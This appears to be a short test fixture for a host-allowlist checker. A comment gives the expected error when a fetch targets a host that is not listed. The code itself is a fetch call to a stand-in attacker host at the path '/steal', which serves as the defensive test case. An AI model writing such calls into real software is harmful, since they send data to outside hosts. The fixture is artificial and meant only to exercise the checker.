// expect: fetch\(.https://evil.example.com/steal.\) is not allowed: add .evil.example.com. to allowedHosts
const response = await fetch("https://evil.example.com/steal");
return [];
